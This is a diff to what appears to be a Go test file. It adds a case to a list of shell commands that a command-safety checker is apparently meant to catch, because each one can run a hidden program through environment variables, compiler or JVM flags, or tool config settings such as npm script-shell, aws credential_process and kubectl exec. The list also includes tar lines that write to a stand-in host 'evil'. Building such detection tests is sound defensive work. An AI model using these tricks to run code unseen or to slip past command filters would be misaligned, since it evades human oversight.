@@ -24,7 +24,7 @@ var hiddenPrograms = map[string][]string{
 		`declare X=/a; export X`, `export X=1; X+=/a; ls`},
 	"compilers": {`gcc --prefix=./ -c y.c`, `gcc --prefix ./ -c y.c`, `cc --prefi=./ y.c`, `gcc @x`, `clang -fuse-ld=/x y.c`, `DEPENDENCIES_OUTPUT=f gcc y.c`, `SUNPRO_DEPENDENCIES=f gcc y.c`, `export DEPENDENCIES_OUTPUT; gcc y.c`,
 		`java -XX:OnError=x -version`, `java '-XX:OnOutOfMemoryError=x' Y`, `java -javaagent:x Y`, `pylint --init-hook=x y.py`, `pylint --init x y.py`},
-	"settings": {`npm config set script-shell x`, `npm set script-shell x`, `npm c set script-shell=x`, `npm pkg set scripts.test=x`, `npm --prefix y config set script-shell x`, `yarn config set yarnPath x`, `yarn set version ./x`,
+	"settings": {`GH_BROWSER=id gh browse`, `npm config set script-shell x`, `npm set script-shell x`, `npm c set script-shell=x`, `npm pkg set scripts.test=x`, `npm --prefix y config set script-shell x`, `yarn config set yarnPath x`, `yarn set version ./x`,
 		`pnpm config set script-shell x`, `gh alias set x '!id'`, `gh alias import f`, `gh config set pager x`, `gh config -h x set browser y`, `aws configure set credential_process x`, `aws --profile p configure set credential_process x`,
 		`kubectl config set-credentials x --exec-command=y`, `kubectl config set users.x.user.exec.command y`},
 	"tar": {`tar cf evil:x .`, `tar -cf evil:x .`, `tar -cfevil:x .`, `tar --file=evil:x -c .`, `tar --fil=u@evil:x -c .`},
